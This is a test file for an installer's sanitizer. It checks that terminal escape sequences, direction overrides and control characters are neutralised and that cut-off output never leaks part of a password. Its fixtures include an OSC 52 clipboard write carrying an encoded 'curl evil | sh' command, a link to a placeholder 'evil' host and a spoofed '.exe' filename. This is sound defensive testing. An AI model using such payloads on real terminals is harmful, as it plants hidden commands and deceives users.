import { describe, expect, test } from 'vitest';
import { InstallerError, toWire } from '../../installer/base/errors.ts';
import {
  afterCutWord,
  endOf,
  harmless,
  marked,
  plainText,
  visible,
  visibleJson,
} from '../../installer/base/foreign-text.ts';

/** Everything that a terminal or a page would obey, or that changes how a text is read without being seen. */
const dangerous = /[\p{Cc}\u061c\u200e\u200f\u2028-\u202e\u2066-\u2069]/u;
const clipboard = '\u001b]52;c;Y3VybCBldmlsIHwgc2g=\u0007';

describe('words that try to steer a terminal', () => {
  test.each([
    ['clearing the screen', 'a\u001b[2Jb', 'ab'],
    ['moving the cursor', 'a\u001b[1;1H\u001b[3Ab', 'ab'],
    ['colours', '\u001b[1;38;5;196mred\u001b[0m', 'red'],
    ['a private mode', 'a\u001b[?1049hb', 'ab'],
    ['writing to the clipboard (OSC 52)', `a${clipboard}b`, 'ab'],
    ['a title, ended by ST', 'a\u001b]0;root@host\u001b\\b', 'ab'],
    ['a hyperlink', '\u001b]8;;http://evil\u0007text\u001b]8;;\u0007', 'text'],
    ['a device control string', 'a\u001bP+q544e\u001b\\b', 'ab'],
    ['an application program command', 'a\u001b_Gf=100;AAAA\u001b\\b', 'ab'],
    ['a reset', 'a\u001bcb', 'ab'],
    ['another character set', 'a\u001b(0b', 'ab'],
    ['eight-bit CSI', 'a\u009b2Jb', 'ab'],
    ['eight-bit OSC', 'a\u009d52;c;AA\u009cb', 'ab'],
    ['a progress bar', '10 %\r20 %\r\ndone', '10 %\n20 %\ndone'],
    ['a bell and a backspace', 'a\u0007\u0008b', 'a\\u0007\\u0008b'],
    ['NUL and DEL', 'a\u0000\u007fb', 'a\\u0000\\u007fb'],
    ['an override of the direction', 'exe.\u202egnp', 'exe.\\u202egnp'],
    ['an isolate of the direction', 'a\u2066b\u2069', 'a\\u2066b\\u2069'],
    ['a line separator', 'a\u2028b\u2029c', 'a\\u2028b\\u2029c'],
    ['a sequence without an end', 'a\u001b]52;c;AAAA', 'a\\u001b]52;c;AAAA'],
    ['half a sequence', 'a\u001b[', 'a\\u001b['],
    ['line ends and tabs, which stay', 'a\n\tb', 'a\n\tb'],
  ])('%s', (_, text, expected) => {
    expect(plainText(text)).toBe(expected);
    expect(dangerous.test(plainText(text).replaceAll(/[\n\t]/g, ''))).toBe(false);
    expect(dangerous.test(visible(text) + marked(text))).toBe(false);
    expect(marked(text).length).toBe(text.length);
    expect(JSON.parse(visibleJson({ text }))).toEqual({ text });
    expect(dangerous.test(visibleJson({ text }))).toBe(false);
  });

  test('positive control: as they come they are dangerous', () => {
    expect(dangerous.test(clipboard)).toBe(true);
    expect(dangerous.test(JSON.stringify('exe.\u202egnp'))).toBe(true);
  });

  test('cleaning a clean text changes nothing, so it may be done at every border', () => {
    for (const text of ['Проверено\n\tok – “quoted” 日本', plainText(`a${clipboard}\u0007`)]) {
      expect(plainText(text)).toBe(text);
      expect(visible(visible(text))).toBe(visible(text));
    }
  });

  test('a megabyte of unfinished sequences takes no time that grows with its square', () => {
    for (const start of ['\u001b]', '\u001bP', '\u001b[', '\u009b0;', '\u001b ']) {
      expect(plainText(start.repeat(500_000)).length).toBeGreaterThan(0);
    }
  });

  test('every string of a value, at any depth', () => {
    expect(harmless({ a: ['\u001b[2Jx', { b: 'y\u0007' }], n: 1, z: null })).toEqual({
      a: ['x', { b: 'y\\u0007' }],
      n: 1,
      z: null,
    });
  });
});

describe('an error', () => {
  test('carries no sequence of a container, a file’s name or a cause to whoever reads it', () => {
    const cause = new Error('ended\u001b[2J', { cause: new Error(clipboard) });
    const params = { file: '\u001b[2K\u001b[1A Every byte verified' };
    const wire = toWire(
      new InstallerError('BUNDLE_FILE_UNLISTED', { params, expected: 'a\u009b1m', found: '\u202eb', cause }),
    );
    expect(dangerous.test(Object.values(wire.params).join('') + wire.expected + wire.found + wire.detail)).toBe(false);
    expect(wire.params.file).toBe('\\u001b[2K\\u001b[1A Every byte verified');
    expect(dangerous.test(JSON.stringify(wire.cause))).toBe(false);
  });
});

describe('the end of a long output', () => {
  const password = 'Yb3kQ0pZsW9vTn51Lr8DYb3kQ0pZsW9v';

  test('is kept, where a traceback says why', () => {
    const traceback = `Traceback (most recent call last):\n${'  File "x.py", line 1, in f\n'.repeat(100)}ValueError: password refused`;
    const end = endOf(traceback, 200);
    expect(end).toMatch(/^… .*ValueError: password refused$/s);
    expect(end.length).toBeLessThanOrEqual(202);
    expect(endOf('short', 200)).toBe('short');
  });

  test('a password that the cut goes through is gone as a whole, wherever the cut falls', () => {
    const encoded = Buffer.from(`codegraph:${password}`).toString('base64');
    for (const secret of [password, encoded, encodeURIComponent(password)]) {
      const text = `${'x '.repeat(50)}url=postgres://codegraph:${secret}@postgres/db refused`;
      for (let max = 1; max < text.length; max++) {
        const end = endOf(text, max).replaceAll(secret, '[SECRET]');
        for (let at = 0; at + 8 <= secret.length; at++) expect(end).not.toContain(secret.slice(at, at + 8));
        const bytes = Buffer.from(text).subarray(text.length - max);
        const kept = bytes.toString('utf8', afterCutWord(bytes)).replaceAll(secret, '[SECRET]');
        expect(kept).not.toContain(secret.slice(-8));
      }
    }
  });

  test('positive control: a plain cut leaves 31 of 32 characters, which redaction does not know', () => {
    const text = `the password is ${password}`;
    expect(text.slice(-31).replaceAll(password, '[SECRET]')).toBe(password.slice(1));
  });

  test('never begins within a character', () => {
    const bytes = Buffer.from('пароль не подошёл').subarray(1);
    expect(bytes.toString('utf8', afterCutWord(bytes))).not.toContain('\ufffd');
  });
});
